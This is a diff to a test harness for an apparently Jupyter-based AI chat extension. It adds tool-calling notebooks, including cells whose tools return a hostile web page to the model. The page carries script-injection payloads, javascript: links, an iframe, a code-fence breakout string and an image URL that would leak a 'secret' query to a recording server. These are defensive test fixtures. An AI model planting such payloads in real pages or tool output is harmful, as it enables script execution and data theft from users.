@@ -74,6 +74,36 @@ PANEL_CELLS = (
 )
 CONTROLS_CELL, PANEL_CHAT_CELL, EXPLORE_CELL, RATE_LIMITED_CELL = 1, 2, 3, 4
 
+# The tools notebook (its own workspace): 0 loads the extension, 1 defines two tools that record
+# each call in ``ran`` (get_weather sleeps a little, so its card is seen running), 2 lets the model
+# call get_weather, 3 names both tools with --confirm (the test approves one and denies the other),
+# 4 prints which tools ran.
+TOOLS_NOTEBOOK = "tools.ipynb"
+TOOLS_WORKSPACE = "tools"
+TOOL_SLEEP = 0.5  # seconds get_weather takes
+TOOL_CELLS = (
+    "%load_ext heroku_magic",
+    "import time\n"
+    "import heroku_magic\n\n"
+    "ran = []  # (tool, argument) of every call that ran\n\n\n"
+    "@heroku_magic.tool\n"
+    "def get_weather(city: str) -> dict:\n"
+    '    """Current weather for a city."""\n'
+    "    ran.append(('get_weather', city))\n"
+    f"    time.sleep({TOOL_SLEEP})\n"
+    '    return {"city": city, "temp": 21}\n\n\n'
+    "@heroku_magic.tool\n"
+    "def get_time(zone: str) -> str:\n"
+    '    """The time of day in a time zone."""\n'
+    "    ran.append(('get_time', zone))\n"
+    '    return f"12:00 in {zone}"',
+    "%%heroku_chat --no-history --tools get_weather\nWhat is the weather? get_weather city=Paris",
+    "%%heroku_chat --no-history --tools get_weather,get_time --confirm\n"
+    "get_weather city=Lyon and get_time zone=UTC",
+    "print(ran)",
+)
+TOOL_DEFS_CELL, WEATHER_CELL, CONFIRM_CELL, RAN_CELL = 1, 2, 3, 4
+
 # The attacks notebook (its own workspace too): cells that ask the simulator to echo the attack
 # classes of tests/test_safety.py. Each payload would set ``window.__pwned`` to its own number, fetch
 # from ``leak`` (a recording server) or write a file through /api/contents, if it ever ran.
@@ -84,6 +114,7 @@ PWNED = re.compile(r"__pwned=(\d+)")  # the payloads' markers, as they appear in
 ECHO = "%%heroku_chat --no-history\necho: "
 SHOWCASE_CELL, TEX_CELL = 1, 12  # 0 loads the extension (fast paints); 2-14 are one attack class each
 THINKING_CELL, ATTACK_EXPLORE_CELL, HISTORY_CHAT_CELL, HISTORY_CELL = 15, 16, 17, 18
+TOOL_ATTACK_DEFS_CELL, TOOL_ATTACK_CELL = 19, 20  # after the history: it is unchanged
 # What the showcase cell asks for: math to typeset (inline and displayed) and code to highlight.
 SHOWCASE = (
     "Euler: $e^{i\\pi}+1=0$, and in Python:\n\n"
@@ -161,7 +192,43 @@ def attack_cells(leak: str = NO_LEAK_URL) -> tuple[str, ...]:
         "%%heroku_chat --no-history --thinking"
     )
     assert cells[ATTACK_EXPLORE_CELL].startswith("%%heroku_explore") and len(cells) == HISTORY_CELL + 1
-    return cells
+    return cells + tool_attack_cells(leak)
+
+
+def tool_page(leak: str = NO_LEAK_URL) -> str:
+    """What a hostile web page says: what a tool that fetches pages hands back to the model."""
+    return (
+        f"{_img(80)} <script>window.__pwned=81</script> [click](javascript:window.__pwned=82) "
+        f'<a href="javascript:window.__pwned=83">x</a> ![pixel]({leak}/tool.png?q=secret) '
+        f"<iframe src={leak}/tool-frame></iframe>"
+    )
+
+
+def tool_attack_cells(leak: str = NO_LEAK_URL) -> tuple[str, str]:
+    """The attacks notebook's tool cells: two tools that return a hostile page, then a turn that calls both.
+
+    fetch_page returns the page as text; fetch_json returns it inside JSON (shown as a highlighted
+    code block), next to a string that tries to close that block's fence. The page is also
+    fetch_page's description, which ``%heroku_tools`` shows (so the first cell's static output holds
+    every payload of its source, as the attacks tests expect of every cell).
+    """
+    page = tool_page(leak)
+    define = (
+        "import heroku_magic\n\n"
+        f"PAGE = {page!r}\n\n\n"
+        '@heroku_magic.tool(description="Fetch a web page. " + PAGE)\n'
+        "def fetch_page(url: str) -> str:\n"
+        "    return PAGE\n\n\n"
+        '@heroku_magic.tool(description="Fetch a page as JSON.")\n'
+        "def fetch_json(url: str) -> dict:\n"
+        '    return {"url": url, "page": PAGE, "fence": "```\\n" + PAGE + "\\n```"}\n\n\n'
+        "%heroku_tools"
+    )
+    chat = (
+        "%%heroku_chat --no-history --tools fetch_page,fetch_json\n"
+        "Summarize fetch_page url=/index.html and fetch_json url=/index.html"
+    )
+    return define, chat
 
 
 class LabStartError(RuntimeError):
@@ -307,6 +374,7 @@ def running_lab(base: Path, env: Mapping[str, str], leak: str = NO_LEAK_URL) -> 
     write_notebook(root / NOTEBOOK)
     write_notebook(root / PANELS_NOTEBOOK, PANEL_CELLS)
     write_notebook(root / ATTACKS_NOTEBOOK, attack_cells(leak))
+    write_notebook(root / TOOLS_NOTEBOOK, TOOL_CELLS)
     port, token = free_port(), secrets.token_hex(16)
     command = [
         sys.executable,
